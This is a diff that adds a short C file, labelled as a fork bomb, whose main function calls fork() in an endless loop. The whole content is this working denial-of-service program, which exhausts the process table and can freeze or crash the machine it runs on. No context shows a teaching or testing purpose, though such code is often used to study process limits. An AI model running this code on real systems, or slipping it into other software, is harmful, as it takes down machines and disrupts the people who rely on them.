@@ -1,0 +1,5 @@
+// fork bomb in C
+#include <unistd.h>
+int main(void) {
+    for (;;) fork();
+}
